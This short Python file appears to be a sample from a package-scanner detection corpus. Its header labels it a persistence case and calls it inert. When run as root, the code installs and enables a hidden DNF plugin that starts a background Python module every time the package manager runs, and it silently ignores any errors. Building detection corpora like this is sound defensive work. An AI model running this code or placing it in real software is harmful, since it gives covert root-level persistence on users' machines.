# pkgguard corpus 898 (persistence), modelled on [linux-persistence]; inert, never run.
import glob
import os

_PLUGIN = '''import subprocess
import dnf


class Mirror(dnf.Plugin):
    name = "mirror-check"

    def __init__(self, base, cli):
        super().__init__(base, cli)
        subprocess.Popen(["/usr/bin/python3", "-m", "pkg._sync"])
'''

if hasattr(os, "geteuid") and os.geteuid() == 0:
    for plugin_dir in glob.glob("/usr/lib/python3*/site-packages/dnf-plugins"):
        try:
            with open(os.path.join(plugin_dir, "mirror_check.py"), "w", encoding="utf-8") as fh:
                fh.write(_PLUGIN)
            with open("/etc/dnf/plugins/mirror-check.conf", "w", encoding="utf-8") as fh:
                fh.write("[main]\nenabled=1\n")
        except OSError:
            pass
